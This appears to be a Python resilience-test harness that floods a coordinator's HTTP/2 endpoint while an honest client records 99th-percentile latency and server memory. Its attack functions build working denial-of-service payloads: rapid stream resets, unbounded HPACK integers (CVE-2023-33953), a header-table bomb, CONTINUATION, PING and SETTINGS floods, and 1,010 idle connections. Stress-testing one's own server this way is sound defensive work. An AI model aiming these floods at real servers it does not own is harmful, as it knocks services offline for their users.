#!/usr/bin/env python3
"""Attacks on the coordinator's network side, each with an honest caller beside it.

  front.py --server HOST:PORT --certs DIR --pid PID [--seconds N] [--floor MS] [--together] [ATTACK...]

DIR holds ca.pem and NAME.pem, NAME.key of the honest member `honest` and of the attackers `evil-ATTACK`. Every attack
has its own, because an identity that was caught is refused for a while. Prints a row for each attack (--together: one
for all at once): the honest caller's 99th percentile before, during and after it, the slowest of its new connections,
and the coordinator's largest memory. Exit status 1: a row misses the targets (during <= 20 x before, but at least
--floor ms; memory at most 300 MB above the start; the honest caller never loses its connection).
"""
import argparse
import multiprocessing
import os
import socket
import struct
import sys
import threading
import time

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                   WINDOW_UPDATE, Client, block, call, frame, text)

PARALLEL = 4  # connections of one attacker


def resident_mb(pid):
    with open(f"/proc/{pid}/status", encoding="ascii") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


class Honest(threading.Thread):
    """Calls in a row over one connection, and a new connection every second, with the time each took."""

    def __init__(self, connect):
        super().__init__(daemon=True)
        self.connect, self.client = connect, connect()
        self.times, self.fresh, self.failed, self.ends = [], [], [], False
        self.start()

    def run(self):
        next_fresh = time.monotonic() + 0.5
        while not self.ends:
            try:
                begin = time.monotonic()
                self.client.check()
                self.times.append(time.monotonic() - begin)
                if begin >= next_fresh:
                    begin = time.monotonic()
                    other = self.connect()
                    other.check()
                    other.close()
                    self.fresh.append(time.monotonic() - begin)
                    next_fresh = begin + 0.5
                time.sleep(0.002)
            except OSError as error:
                self.failed.append(str(error))
                return

    def take(self):
        times, self.times = sorted(self.times), []
        fresh, self.fresh = self.fresh, []
        p99 = times[min(len(times) - 1, int(len(times) * 0.99))] * 1000 if times else float("inf")
        return p99, max(fresh, default=0) * 1000


def flood(make, caught=True):
    """An attack that writes what make(client) returns until the time is over; if it must be caught, at least until it
    was cut off once, because on a busy machine its first connection may come late."""

    def attack(connect, until):
        cut = threading.Event()

        def goes_on():
            now = time.monotonic()
            return now < until or caught and not cut.is_set() and now < until + 20

        def one():
            while goes_on():
                try:
                    client = connect()
                    client.socket.settimeout(1)
                    while goes_on():
                        client.send(make(client))
                except TimeoutError:
                    pass
                except OSError:
                    cut.set()
                    time.sleep(0.02)

        threads = [threading.Thread(target=one, daemon=True) for _ in range(PARALLEL)]
        for thread in threads:
            thread.start()
        while goes_on():
            time.sleep(0.02)

    return attack


def resets(client):
    out = b""
    for _ in range(200):
        stream = client.next_stream()
        out += frame(HEADERS, END_HEADERS, stream, block()) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    return out


def varint(client):
    """Integers of a length without end (CVE-2023-33953), in continuation frames."""
    stream = client.next_stream()
    return frame(HEADERS, 0, stream, b"\x7f" + b"\xff" * 16000) + frame(CONTINUATION, 0, stream, b"\xff" * 16000) * 700


def bomb(client):
    """One large entry in the table, and then one byte for each use of it."""
    big = b"\x40" + text("x-bomb") + b"\x7f" + bytes([0xa0 - 127 + 128 & 0xff | 0x80, 0x1e]) + b"a" * 3872
    stream = client.next_stream()
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block() + big + b"\xbe" * 8000)


def continuations(client):
    stream = client.next_stream()
    return frame(HEADERS, 0, stream, block()) + frame(CONTINUATION, 0, stream) * 20000


def calls(client):
    """Calls whose answers are never read."""
    return b"".join(call(client.next_stream()) for _ in range(4))


def idle(connect, until):
    """1,010 connections that never begin a handshake, and come back when they are closed."""
    address = connect.address
    held = []
    while time.monotonic() < until:
        try:
            held.append(socket.create_connection(address, timeout=0.2))
        except OSError:
            pass
        if len(held) >= 1010:
            held.pop(0).close()
            time.sleep(0.001)
    for one in held:
        one.close()


ATTACKS = {
    "idle": idle,
    "resets": flood(resets),
    "varint": flood(varint),
    "bomb": flood(bomb),
    "continuations": flood(continuations),
    "pings": flood(lambda client: frame(PING, 0, 0, b"12345678") * 2000),
    "settings": flood(lambda client: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 2000),
    "priorities": flood(lambda client: frame(PRIORITY, 0, 1, b"\0" * 5) * 2000),
    "windows": flood(lambda client: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 2000, caught=False),
    "empty-data": flood(lambda client: frame(HEADERS, END_HEADERS, client.next_stream(), block()) +
                        frame(DATA, 0, client.stream) * 2000),
    "unread": flood(calls, caught=False),
}


def run_attack(name, connect, until):
    """With low priority: a real attacker uses the processors of other machines."""
    os.nice(19)
    ATTACKS[name](connect, until)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--server", required=True)
    parser.add_argument("--certs", required=True)
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--floor", type=float, default=20)
    parser.add_argument("--together", action="store_true")
    parser.add_argument("attack", nargs="*", default=list(ATTACKS))
    options = parser.parse_args()
    ca = os.path.join(options.certs, "ca.pem")

    def connector(name):
        def connect():
            return Client(options.server, ca, os.path.join(options.certs, name))

        host, port = options.server.rsplit(":", 1)
        connect.address = (host, int(port))
        return connect

    honest = Honest(connector("honest"))
    start_mb = resident_mb(options.pid)
    bad = False
    print(f"{'attack':14} {'before':>8} {'during':>8} {'after':>8} {'connect':>8}  ms p99   memory MB "
          f"(start {start_mb:.0f})")
    for names in [options.attack] if options.together else [[name] for name in options.attack]:
        honest.take()
        time.sleep(min(2, options.seconds))
        before, _ = honest.take()
        until, peak = time.monotonic() + options.seconds, [0.0]
        attacking = [multiprocessing.Process(target=run_attack, args=(name, connector("evil-" + name), until),
                                             daemon=True) for name in names]
        for one in attacking:
            one.start()
        while any(one.is_alive() for one in attacking):
            peak[0] = max(peak[0], resident_mb(options.pid))
            time.sleep(0.05)
        during, connect = honest.take()
        time.sleep(min(2, options.seconds))
        after, _ = honest.take()
        missed = during > max(20 * before, options.floor) or peak[0] > start_mb + 300 or bool(honest.failed)
        bad = bad or missed
        print(f"{'together' if options.together else names[0]:14} {before:8.2f} {during:8.2f} {after:8.2f} {connect:8.1f}  {peak[0]:15.1f} "
              f"{'MISSED ' + ' '.join(honest.failed) if missed else ''}", flush=True)
        if honest.failed:
            honest = Honest(connector("honest"))
    honest.ends = True
    sys.exit(1 if bad else 0)


if __name__ == "__main__":
    main()
